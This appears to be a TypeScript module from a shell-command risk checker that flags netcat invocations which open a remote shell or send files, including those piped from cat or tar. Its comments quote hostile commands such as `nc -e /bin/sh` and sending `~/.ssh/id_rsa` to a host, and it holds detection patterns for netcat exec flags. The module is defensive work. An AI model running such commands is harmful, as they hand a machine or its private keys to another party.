import { hasLong, hasShort, type Command } from './command-words.ts';
import type { RiskReason } from './risk-reasons.ts';

const NETCAT = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional']);
/** Programs whose output is the files they are given (`cat FILE | nc …`). */
const FILE_READERS = new Set(['cat', 'tac', 'base64', 'xxd', 'od', 'gzip', 'bzip2', 'xz', 'zstd', 'zip']);

/**
 * netcat handing this machine to another: running a program for the other
 * end (`nc -e /bin/sh`, `ncat --sh-exec`), or sending it files, redirected in
 * (`nc host port < ~/.ssh/id_rsa`) or from the stage before it (`cat FILE |`,
 * `tar c DIR |`). Typed text piped in (`echo "GET /" | nc host 80`), port
 * scans and listening are everyday use.
 */
export function networkRisks(command: Command, input: { reads: readonly string[]; upstream: Command | undefined }, add: (reason: RiskReason) => void): void {
  if (!NETCAT.has(command.name)) return;
  const { flags } = command;
  if (flags.some((flag) => /^-[A-Za-z]*[ec]$/.test(flag) || /^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(flag))) add({ kind: 'remote-shell' });
  if (hasShort(flags, 'l') || hasLong(flags, '--listen') || hasShort(flags, 'z')) return;
  const files = input.reads.filter((file) => !file.startsWith('/dev/'));
  const sent = files.length > 0 ? files : input.upstream ? filesRead(input.upstream) : [];
  if (sent.length > 0) add({ kind: 'network-send', operand: sent.join(' ') });
}

/** The files a command writes to its output: `cat`'s operands, `tar c`'s members. */
function filesRead(command: Command): string[] {
  const { name, args, operands } = command;
  if (FILE_READERS.has(name)) return operands.filter((operand) => operand !== '-');
  if (name !== 'tar') return [];
  // `tar czf - DIR` (the mode word without a dash) or `tar -czf - DIR`.
  const mode = args[0]?.replace(/^-/, '') ?? '';
  if (!/^[A-Za-z]*c/.test(mode) && !args.includes('--create')) return [];
  return (args[0]?.startsWith('-') ? operands : operands.slice(1)).filter((operand) => operand !== '-');
}
